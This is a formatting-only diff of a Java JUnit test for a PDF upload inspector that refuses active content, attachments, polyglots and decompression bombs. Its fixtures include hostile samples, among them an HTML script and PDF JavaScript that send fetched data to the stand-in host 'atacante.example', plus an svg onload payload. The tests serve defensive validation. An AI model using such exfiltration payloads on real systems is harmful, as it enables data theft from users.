@@ -42,52 +42,75 @@ import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
 import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
 import org.junit.jupiter.api.Test;
 
-/** Only plain PDFs pass: what a browser or a PDF reader could run or unpack is refused in Spanish. */
+/**
+ * Only plain PDFs pass: what a browser or a PDF reader could run or unpack is refused in Spanish.
+ */
 class InspeccionPdfTest {
 
-  private static final String HTML = "<html><body><script>fetch('/api/convenios').then(r => r.text())"
-      + ".then(t => new Image().src = 'https://atacante.example/?' + t)</script></body></html>";
+  private static final String HTML =
+      "<html><body><script>fetch('/api/convenios').then(r => r.text())"
+          + ".then(t => new Image().src = 'https://atacante.example/?' + t)</script></body></html>";
 
   @Test
   void plainPdfsPass() {
     assertThat(InspeccionPdf.problema(Pdf.de("convenio firmado"))).isEmpty();
-    assertThat(InspeccionPdf.problema(comprimido(pdf -> {
-    }))).as("PDF 1.5+ with object and xref streams").isEmpty();
+    assertThat(InspeccionPdf.problema(comprimido(pdf -> {})))
+        .as("PDF 1.5+ with object and xref streams")
+        .isEmpty();
   }
 
   @Test
   void theProjectsOwnPdfsPass() {
-    byte[] decreto = PdfDesdeXhtml.de("<html><head><title>Decreto</title></head><body><h1>DECRETO EXENTO N° 1204"
-        + "</h1><p>Apruébase el convenio. Véase <a href=\"https://www.sernameg.gob.cl\">SernamEG</a>.</p></body></html>");
+    byte[] decreto =
+        PdfDesdeXhtml.de(
+            "<html><head><title>Decreto</title></head><body><h1>DECRETO EXENTO N° 1204"
+                + "</h1><p>Apruébase el convenio. Véase <a href=\"https://www.sernameg.gob.cl\">SernamEG</a>.</p></body></html>");
     assertThat(InspeccionPdf.problema(decreto)).isEmpty();
   }
 
   @Test
   void linksAndFormFieldsWithoutActionsPass() {
-    assertThat(InspeccionPdf.problema(Pdf.con("con enlace", pdf -> enlace(pdf, uri("https://www.gob.cl/"))))).isEmpty();
-    assertThat(InspeccionPdf.problema(Pdf.con("con formulario", pdf -> campo(pdf, null)))).isEmpty();
+    assertThat(
+            InspeccionPdf.problema(
+                Pdf.con("con enlace", pdf -> enlace(pdf, uri("https://www.gob.cl/")))))
+        .isEmpty();
+    assertThat(InspeccionPdf.problema(Pdf.con("con formulario", pdf -> campo(pdf, null))))
+        .isEmpty();
   }
 
   @Test
   void javaScriptAnywhereIsRefused() {
-    Map<String, byte[]> casos = Map.of(
-        "OpenAction", Pdf.con("x", pdf -> pdf.getDocumentCatalog().setOpenAction(js())),
-        "Names/JavaScript", Pdf.con("x", pdf -> {
-          PDJavascriptNameTreeNode arbol = new PDJavascriptNameTreeNode();
-          arbol.setNames(Map.of("inicio", js()));
-          PDDocumentNameDictionary nombres = new PDDocumentNameDictionary(pdf.getDocumentCatalog());
-          nombres.setJavascript(arbol);
-          pdf.getDocumentCatalog().setNames(nombres);
-        }),
-        "catalog AA", Pdf.con("x", pdf -> pdf.getDocumentCatalog().getActions().setWC(js())),
-        "page AA", Pdf.con("x", pdf -> pdf.getPage(0).getActions().setO(js())),
-        "link", Pdf.con("x", pdf -> enlace(pdf, js())),
-        "form field AA", Pdf.con("x", pdf -> campo(pdf, js())),
-        "javascript: link", Pdf.con("x", pdf -> enlace(pdf, uri("JavaScript:app.alert(1)"))),
-        "compressed OpenAction", comprimido(pdf -> pdf.getDocumentCatalog().setOpenAction(js())));
-    casos.forEach((caso, pdf) -> assertThat(InspeccionPdf.problema(pdf)).as(caso)
-        .contains(InspeccionPdf.ACTIVO).hasValueSatisfying(mensaje -> assertThat(mensaje)
-            .contains("contenido activo").contains("imprímalo como PDF")));
+    Map<String, byte[]> casos =
+        Map.of(
+            "OpenAction", Pdf.con("x", pdf -> pdf.getDocumentCatalog().setOpenAction(js())),
+            "Names/JavaScript",
+                Pdf.con(
+                    "x",
+                    pdf -> {
+                      PDJavascriptNameTreeNode arbol = new PDJavascriptNameTreeNode();
+                      arbol.setNames(Map.of("inicio", js()));
+                      PDDocumentNameDictionary nombres =
+                          new PDDocumentNameDictionary(pdf.getDocumentCatalog());
+                      nombres.setJavascript(arbol);
+                      pdf.getDocumentCatalog().setNames(nombres);
+                    }),
+            "catalog AA", Pdf.con("x", pdf -> pdf.getDocumentCatalog().getActions().setWC(js())),
+            "page AA", Pdf.con("x", pdf -> pdf.getPage(0).getActions().setO(js())),
+            "link", Pdf.con("x", pdf -> enlace(pdf, js())),
+            "form field AA", Pdf.con("x", pdf -> campo(pdf, js())),
+            "javascript: link", Pdf.con("x", pdf -> enlace(pdf, uri("JavaScript:app.alert(1)"))),
+            "compressed OpenAction",
+                comprimido(pdf -> pdf.getDocumentCatalog().setOpenAction(js())));
+    casos.forEach(
+        (caso, pdf) ->
+            assertThat(InspeccionPdf.problema(pdf))
+                .as(caso)
+                .contains(InspeccionPdf.ACTIVO)
+                .hasValueSatisfying(
+                    mensaje ->
+                        assertThat(mensaje)
+                            .contains("contenido activo")
+                            .contains("imprímalo como PDF")));
   }
 
   @Test
@@ -97,30 +120,46 @@ class InspeccionPdfTest {
     PDActionSubmitForm enviar = new PDActionSubmitForm();
     enviar.setFile(archivoExterno("https://atacante.example/recibe"));
 
-    assertThat(InspeccionPdf.problema(Pdf.con("x", pdf -> pdf.getDocumentCatalog().setOpenAction(launch))))
+    assertThat(
+            InspeccionPdf.problema(
+                Pdf.con("x", pdf -> pdf.getDocumentCatalog().setOpenAction(launch))))
         .contains(InspeccionPdf.ACTIVO);
-    assertThat(InspeccionPdf.problema(Pdf.con("x", pdf -> enlace(pdf, enviar)))).contains(InspeccionPdf.ACTIVO);
+    assertThat(InspeccionPdf.problema(Pdf.con("x", pdf -> enlace(pdf, enviar))))
+        .contains(InspeccionPdf.ACTIVO);
   }
 
   @Test
   void embeddedFilesAndXfaAreRefused() {
-    byte[] incrustado = Pdf.con("x", pdf -> {
-      PDEmbeddedFilesNameTreeNode arbol = new PDEmbeddedFilesNameTreeNode();
-      arbol.setNames(Map.of("virus.exe", archivo(pdf)));
-      PDDocumentNameDictionary nombres = new PDDocumentNameDictionary(pdf.getDocumentCatalog());
-      nombres.setEmbeddedFiles(arbol);
-      pdf.getDocumentCatalog().setNames(nombres);
-    });
-    byte[] anotacion = Pdf.con("x", pdf -> {
-      PDAnnotationFileAttachment clip = new PDAnnotationFileAttachment();
-      clip.setRectangle(new PDRectangle(100, 100, 20, 20));
-      clip.setFile(archivo(pdf));
-      agregar(pdf, clip);
-    });
-    byte[] xfa = Pdf.con("x", pdf -> {
-      campo(pdf, null);
-      pdf.getDocumentCatalog().getAcroForm().getCOSObject().setItem(COSName.XFA, new COSArray());
-    });
+    byte[] incrustado =
+        Pdf.con(
+            "x",
+            pdf -> {
+              PDEmbeddedFilesNameTreeNode arbol = new PDEmbeddedFilesNameTreeNode();
+              arbol.setNames(Map.of("virus.exe", archivo(pdf)));
+              PDDocumentNameDictionary nombres =
+                  new PDDocumentNameDictionary(pdf.getDocumentCatalog());
+              nombres.setEmbeddedFiles(arbol);
+              pdf.getDocumentCatalog().setNames(nombres);
+            });
+    byte[] anotacion =
+        Pdf.con(
+            "x",
+            pdf -> {
+              PDAnnotationFileAttachment clip = new PDAnnotationFileAttachment();
+              clip.setRectangle(new PDRectangle(100, 100, 20, 20));
+              clip.setFile(archivo(pdf));
+              agregar(pdf, clip);
+            });
+    byte[] xfa =
+        Pdf.con(
+            "x",
+            pdf -> {
+              campo(pdf, null);
+              pdf.getDocumentCatalog()
+                  .getAcroForm()
+                  .getCOSObject()
+                  .setItem(COSName.XFA, new COSArray());
+            });
 
     assertThat(InspeccionPdf.problema(incrustado)).contains(InspeccionPdf.ADJUNTOS);
     assertThat(InspeccionPdf.problema(anotacion)).contains(InspeccionPdf.ADJUNTOS);
@@ -133,54 +172,83 @@ class InspeccionPdfTest {
     String texto = new String(limpio, StandardCharsets.ISO_8859_1);
     int finCabecera = texto.indexOf('\n') + 1;
 
-    List<byte[]> poliglotas = List.of(
-        bytes(texto.substring(0, finCabecera) + HTML + "\n" + texto.substring(finCabecera)),
-        bytes(texto.substring(0, finCabecera) + "%" + HTML + "\n" + texto.substring(finCabecera)),
-        bytes(texto.substring(0, finCabecera) + "%<svg onload=alert(1)>\n" + texto.substring(finCabecera)),
-        bytes(texto.substring(0, finCabecera - 1) + "<!DOCTYPE html>\n" + texto.substring(finCabecera)),
-        bytes(texto + HTML),
-        bytes(texto + "\n<!--\n" + HTML));
+    List<byte[]> poliglotas =
+        List.of(
+            bytes(texto.substring(0, finCabecera) + HTML + "\n" + texto.substring(finCabecera)),
+            bytes(
+                texto.substring(0, finCabecera) + "%" + HTML + "\n" + texto.substring(finCabecera)),
+            bytes(
+                texto.substring(0, finCabecera)
+                    + "%<svg onload=alert(1)>\n"
+                    + texto.substring(finCabecera)),
+            bytes(
+                texto.substring(0, finCabecera - 1)
+                    + "<!DOCTYPE html>\n"
+                    + texto.substring(finCabecera)),
+            bytes(texto + HTML),
+            bytes(texto + "\n<!--\n" + HTML));
     for (byte[] poliglota : poliglotas) {
-      assertThat(InspeccionPdf.problema(poliglota)).as(new String(poliglota, StandardCharsets.ISO_8859_1))
+      assertThat(InspeccionPdf.problema(poliglota))
+          .as(new String(poliglota, StandardCharsets.ISO_8859_1))
           .contains(InspeccionPdf.POLIGLOTA);
     }
     assertThat(InspeccionPdf.problema(bytes(HTML + texto))).contains(InspeccionPdf.NO_ES_PDF);
     assertThat(InspeccionPdf.problema(bytes("\n" + texto))).contains(InspeccionPdf.NO_ES_PDF);
-    assertThat(InspeccionPdf.problema(bytes(texto + " \r\n\0"))).as("whitespace after %%EOF is fine").isEmpty();
+    assertThat(InspeccionPdf.problema(bytes(texto + " \r\n\0")))
+        .as("whitespace after %%EOF is fine")
+        .isEmpty();
   }
 
   @Test
   void whatPdfboxCannotReadIsRefused() {
-    for (String basura : List.of("%PDF-1.7\nno soy un PDF\n%%EOF\n", "%PDF-1.4\n%%EOF",
-        "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "%PDF-")) {
-      assertThat(InspeccionPdf.problema(bytes(basura))).as(basura).contains(InspeccionPdf.INVALIDO)
-          .hasValueSatisfying(mensaje -> assertThat(mensaje).startsWith("El archivo no es un PDF válido"));
+    for (String basura :
+        List.of(
+            "%PDF-1.7\nno soy un PDF\n%%EOF\n",
+            "%PDF-1.4\n%%EOF",
+            "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+            "%PDF-")) {
+      assertThat(InspeccionPdf.problema(bytes(basura)))
+          .as(basura)
+          .contains(InspeccionPdf.INVALIDO)
+          .hasValueSatisfying(
+              mensaje -> assertThat(mensaje).startsWith("El archivo no es un PDF válido"));
     }
   }
 
   @Test
   void passwordProtectedPdfsAreRefusedUnlessAnyoneMayOpenThem() throws IOException {
-    assertThat(InspeccionPdf.problema(cifrado("clave-de-apertura"))).contains(InspeccionPdf.CON_CLAVE);
-    assertThat(InspeccionPdf.problema(cifrado(""))).as("only an owner password: readable, so inspected").isEmpty();
+    assertThat(InspeccionPdf.problema(cifrado("clave-de-apertura")))
+        .contains(InspeccionPdf.CON_CLAVE);
+    assertThat(InspeccionPdf.problema(cifrado("")))
+        .as("only an owner password: readable, so inspected")
+        .isEmpty();
   }
 
   @Test
   void decompressionBombsAreRefusedWithoutInflatingThemInMemory() {
-    byte[] bomba = comprimido(pdf -> {
-      try {
-        PDStream ceros = new PDStream(pdf, new CerosInputStream(InspeccionPdf.DESCOMPRIMIDO_MAXIMO + 1),
-            COSName.FLATE_DECODE);
-        pdf.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Relleno"), ceros.getCOSObject());
-      } catch (IOException e) {
-        throw new UncheckedIOException(e);
-      }
-    });
+    byte[] bomba =
+        comprimido(
+            pdf -> {
+              try {
+                PDStream ceros =
+                    new PDStream(
+                        pdf,
+                        new CerosInputStream(InspeccionPdf.DESCOMPRIMIDO_MAXIMO + 1),
+                        COSName.FLATE_DECODE);
+                pdf.getDocumentCatalog()
+                    .getCOSObject()
+                    .setItem(COSName.getPDFName("Relleno"), ceros.getCOSObject());
+              } catch (IOException e) {
+                throw new UncheckedIOException(e);
+              }
+            });
     assertThat(bomba.length).isLessThan((int) DocumentoService.TAMANO_MAXIMO);
     assertThat(InspeccionPdf.problema(bomba)).contains(InspeccionPdf.DESMESURADO);
   }
 
   private static PDActionJavaScript js() {
-    return new PDActionJavaScript("this.submitForm('https://atacante.example/'); app.alert('hola');");
+    return new PDActionJavaScript(
+        "this.submitForm('https://atacante.example/'); app.alert('hola');");
   }
 
   private static PDActionURI uri(String destino) {
@@ -242,7 +310,8 @@ class InspeccionPdfTest {
 
   /** A PDF as PDFBox saves it by default: objects inside compressed object streams. */
   private static byte[] comprimido(Consumer<PDDocument> cambio) {
-    try (PDDocument pdf = new PDDocument(); ByteArrayOutputStream salida = new ByteArrayOutputStream()) {
+    try (PDDocument pdf = new PDDocument();
+        ByteArrayOutputStream salida = new ByteArrayOutputStream()) {
       pdf.addPage(new PDPage());
       cambio.accept(pdf);
       pdf.save(salida, CompressParameters.DEFAULT_COMPRESSION);
@@ -253,7 +322,8 @@ class InspeccionPdfTest {
   }
 
   private static byte[] cifrado(String claveDeApertura) throws IOException {
-    try (PDDocument pdf = new PDDocument(); ByteArrayOutputStream salida = new ByteArrayOutputStream()) {
+    try (PDDocument pdf = new PDDocument();
+        ByteArrayOutputStream salida = new ByteArrayOutputStream()) {
       pdf.addPage(new PDPage());
       StandardProtectionPolicy politica =
           new StandardProtectionPolicy("clave-del-autor", claveDeApertura, new AccessPermission());
